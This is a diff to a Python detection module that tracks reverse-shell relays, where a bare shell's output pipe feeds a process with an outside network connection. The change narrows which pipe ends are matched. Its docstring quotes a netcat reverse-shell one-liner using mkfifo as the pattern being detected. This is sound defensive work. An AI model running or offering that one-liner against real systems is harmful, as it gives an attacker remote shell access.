@@ -1,8 +1,8 @@
 """Shells that reach the network through somebody else: `mkfifo f; sh <f | nc HOST PORT >f` and its kind.
 
 No single event shows it. This tracker joins three: a shell that starts with pipes for input and output and no command
-of its own, a process that holds the other end of one of those pipes (or is the shell's parent), and that process's
-connection to the outside. Pure: it is told events and answers facts; its tables are bounded.
+of its own, a process that reads what the shell writes (or is the shell's parent), and that process's connection to the
+outside. Pure: it is told events and answers facts; its tables are bounded.
 """
 
 from collections import OrderedDict
@@ -49,17 +49,16 @@ class Relays:
 
     def _exec(self, event: Event) -> Mapping[str, Any]:
         process = event.process
-        pipes = _pipes(process)
         dialled = self._dialled.get(_identity(process))
         if dialled is not None:
-            self._remember_relay(process, pipes, dialled[1])
+            self._remember_relay(process, dialled[1])
         if not is_bare_shell(process):
             return self._dropper(event)
-        for pipe in pipes:
+        for pipe in _pipes(process, 1):
             held = self._relays.get(pipe)
             if held is not None and held[0] != _identity(process):
                 return {"relay": "pipe", "relay_peer": held[1], "relay_pid": held[0][0]}
-        for pipe in pipes:
+        for pipe in _pipes(process, 1):
             _put(self._shells, pipe, _identity(process))
         return self._parents(event)
 
@@ -100,22 +99,21 @@ class Relays:
         if event.result < 0 and event.result != EINPROGRESS:
             return NOTHING
         process = event.process
-        pipes = _pipes(process)
         _put(self._dialled, _identity(process), (event.time, peer))
-        self._remember_relay(process, pipes, peer)
-        for pipe in pipes:
+        self._remember_relay(process, peer)
+        for pipe in _pipes(process, 0):
             shell = self._shells.get(pipe)
             if shell is not None and shell != _identity(process):
                 return {"relay": "pipe", "relay_peer": peer, "relay_pid": process.pid}
         return NOTHING
 
-    def _remember_relay(self, process: Process, pipes: list[Pipe], peer: Address) -> None:
-        for pipe in pipes:
+    def _remember_relay(self, process: Process, peer: Address) -> None:
+        for pipe in _pipes(process, 0):
             _put(self._relays, pipe, (_identity(process), peer))
 
     def _forget(self, process: Process) -> None:
         self._dialled.pop(_identity(process), None)
-        for pipe in _pipes(process):
+        for pipe in (*_pipes(process, 0), *_pipes(process, 1)):
             if self._shells.get(pipe) == _identity(process):
                 del self._shells[pipe]
             if pipe in self._relays and self._relays[pipe][0] == _identity(process):
@@ -139,10 +137,13 @@ def has_command(process: Process) -> bool:
     return not all(option.startswith("-") and not ("c" in option and option[1:2] != "-") for option in options)
 
 
-def _pipes(process: Process) -> list[Pipe]:
+def _pipes(process: Process, number: int) -> list[Pipe]:
+    """What a shell says goes through its 1 into the relay's 0. A download that is fed to a shell has no such pipe."""
     place = _place(process)
     return [
-        (place, found.inode) for found in process.stdio if found.type == "pipe" and found.inode and found.number < 2
+        (place, found.inode)
+        for found in process.stdio
+        if found.number == number and found.type == "pipe" and found.inode
     ]
 
 
